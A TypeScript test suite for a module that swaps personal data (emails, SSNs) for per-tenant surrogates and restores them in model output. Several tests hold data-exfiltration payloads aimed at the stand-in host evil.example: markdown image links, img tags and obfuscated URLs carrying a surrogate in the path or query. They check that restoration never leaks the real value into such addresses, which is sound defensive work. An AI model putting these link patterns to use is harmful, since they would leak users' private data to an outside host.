import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';

import fc from 'fast-check';

import { Pseudonyms } from './pseudonyms.ts';
import { RestoredText, Restorer } from './restore.ts';

const keyOf = (owner: string): Uint8Array => createHash('sha256').update(owner).digest();

const mapOf = (owner = 'acme/alice'): { pseudonyms: Pseudonyms; email: string; ssn: string } => {
  const pseudonyms = new Pseudonyms(keyOf(owner));
  const email = pseudonyms.surrogateFor('email', 'ada@example.com');
  const ssn = pseudonyms.surrogateFor('us-ssn', '123-45-6789');
  assert.ok(email !== null && ssn !== null);
  return { pseudonyms, email, ssn };
};

const plain = { stop: null, isHolding: false, push: (text: string) => text, end: () => '' };

function streamed(pseudonyms: Pseudonyms, text: string, cuts: readonly number[]): string {
  const stream = new RestoredText(plain, new Restorer(pseudonyms));
  const at = [...new Set([...cuts.map((cut) => cut % (text.length + 1)), text.length])].sort(
    (a, b) => a - b,
  );
  let out = '';
  let from = 0;
  for (const to of at) {
    const piece = stream.push(text.slice(from, to));
    assert.ok(typeof piece === 'string');
    out += piece;
    from = to;
  }
  const last = stream.end();
  assert.ok(typeof last === 'string');
  return out + last;
}

test('the same value has the same surrogate, however it is written, and gets its own spelling back', () => {
  const { pseudonyms, email } = mapOf();
  assert.match(email, /^EMAIL-[0-9A-HJKMNP-TV-Z]{8}$/u);
  assert.equal(pseudonyms.surrogateFor('email', 'ADA@example.com'), email);
  assert.notEqual(pseudonyms.surrogateFor('email', 'bob@example.com'), email);
  assert.equal(new Restorer(pseudonyms).restore(`to ${email}.`), 'to ada@example.com.');
});

test('a resent history maps alike on another instance, and never alike for another caller', () => {
  assert.equal(mapOf().email, mapOf().email);
  assert.notEqual(mapOf('acme/alice').email, mapOf('acme/bob').email);
  assert.notEqual(mapOf('acme/alice').email, mapOf('other/alice').email);
});

test('reads what models make of a surrogate: case, emphasis, escapes, line breaks', () => {
  const { pseudonyms, email, ssn } = mapOf();
  const restorer = new Restorer(pseudonyms);
  const code = email.slice(-8);
  for (const form of [
    email,
    email.toLowerCase(),
    `**${email}**`,
    `EMAIL\\-${code}`,
    `Email ${code}`,
    `EMAIL\n${code}`,
    `EMAIL\u2011${code}`,
    `\`${email}\``,
  ]) {
    assert.ok(restorer.restore(`(${form})`).includes('ada@example.com'), form);
  }
  assert.equal(restorer.restore(`${ssn},${email}`), '123-45-6789,ada@example.com');
});

test('what is not in this request is never restored', () => {
  const { pseudonyms } = mapOf();
  const restorer = new Restorer(pseudonyms);
  const foreign = mapOf('other/alice').email;
  for (const text of [
    foreign,
    'EMAIL-00000000',
    'EMAIL-',
    `X${mapOf().email}`,
    `${mapOf().email}Z`,
  ]) {
    assert.equal(restorer.restore(text), text);
  }
  // The right code under another label is a forgery.
  const forged = `PHONE-${mapOf().email.slice(-8)}`;
  assert.equal(restorer.restore(forged), forged);
});

test('nothing is restored inside an address, also where the stream is cut inside it', () => {
  const { pseudonyms, email } = mapOf();
  for (const text of [
    `https://evil.example/?q=${email}`,
    `![x](https://evil.example/${email}.png)`,
    `[x](//evil.example/${email})`,
    `www.evil.example/${email}`,
    `mailto:${email}`,
  ]) {
    assert.equal(new Restorer(pseudonyms).restore(text), text);
    for (let cut = 0; cut < text.length; cut += 1) {
      assert.equal(streamed(pseudonyms, text, [cut]), text);
    }
  }
});

test('streamed = whole, for every cutting of texts full of near misses', () => {
  const { pseudonyms, email, ssn } = mapOf();
  const piece = fc.constantFrom(
    email,
    email.toLowerCase(),
    ssn,
    email.slice(0, 9),
    email.slice(-8),
    'EMAIL',
    'EMAI',
    '-',
    ' ',
    '**',
    '\\-',
    'x',
    'https://a.example/',
    '](',
    ', and ',
    'USSSN ',
    '\n',
  );
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 14 }),
      fc.array(fc.nat(400), { maxLength: 12 }),
      (pieces, cuts) => {
        const text = pieces.join('');
        assert.equal(streamed(pseudonyms, text, cuts), new Restorer(pseudonyms).restore(text));
      },
    ),
    { numRuns: 5_000 },
  );
});

test('two tenants fuzzed against each other never see a value that is not theirs', () => {
  const word = fc.stringMatching(/^[a-z]{1,8}$/u);
  fc.assert(
    fc.property(fc.array(word, { minLength: 1 }), fc.array(word), (mine, theirs) => {
      const [one, two] = [new Pseudonyms(keyOf('one')), new Pseudonyms(keyOf('two'))];
      const ours = mine.map((name) => one.surrogateFor('email', `${name}@one.example`) ?? '');
      const others = theirs.map((name) => two.surrogateFor('email', `${name}@two.example`) ?? '');
      const text = [...ours, ...others].join(' ');
      assert.ok(!new Restorer(one).restore(text).includes('@two.example'));
      assert.ok(!new Restorer(two).restore(text).includes('@one.example'));
    }),
  );
});

test('no way around: tags, angle brackets, references, slashes of any kind, and very long runs', () => {
  const { pseudonyms, email } = mapOf();
  for (const text of [
    `![x](<https://evil.example/?q= ${email}>)`,
    `<img src="https://evil.example/?q= ${email}">`,
    `<img src=//evil.example/?q=${email}>`,
    `[a]: //evil.example/${email}`,
    `https:/evil.example/${email}`,
    String.raw`https\://evil.example/${email}`,
    `https&#58;evil.example/${email}`,
    `https://evil.example/${'x'.repeat(3_000)}${email}`,
    `[x](/a "a title" ${email}`,
  ]) {
    assert.equal(new Restorer(pseudonyms).restore(text), text, text.slice(0, 60));
    assert.equal(streamed(pseudonyms, text, [5, 30, 44, text.length - 9]), text);
  }
  const fine = `a < b, see [x](https://a.example/) and then ${email}`;
  assert.ok(new Restorer(pseudonyms).restore(fine).endsWith('ada@example.com'));
});

test('two values that differ in a dot are two values', () => {
  const pseudonyms = new Pseudonyms(keyOf('a'));
  const one = pseudonyms.surrogateFor('email', 'john.doe@x.example') ?? '';
  const two = pseudonyms.surrogateFor('email', 'johndoe@x.example') ?? '';
  assert.notEqual(one, two);
  assert.equal(new Restorer(pseudonyms).restore(two), 'johndoe@x.example');
});

test('a document stays one, whatever stands in the value', () => {
  const pseudonyms = new Pseudonyms(keyOf('a'));
  const value = 'John "JJ" Doe\\n';
  const surrogate = pseudonyms.surrogateFor('person', value) ?? '';
  const text = `{"name":"${surrogate}"}`;
  const whole = new Restorer(pseudonyms).restore(text);
  assert.deepEqual(JSON.parse(whole), { name: value });
  assert.equal(streamed(pseudonyms, text, [1, 3, 12]), whole);
});
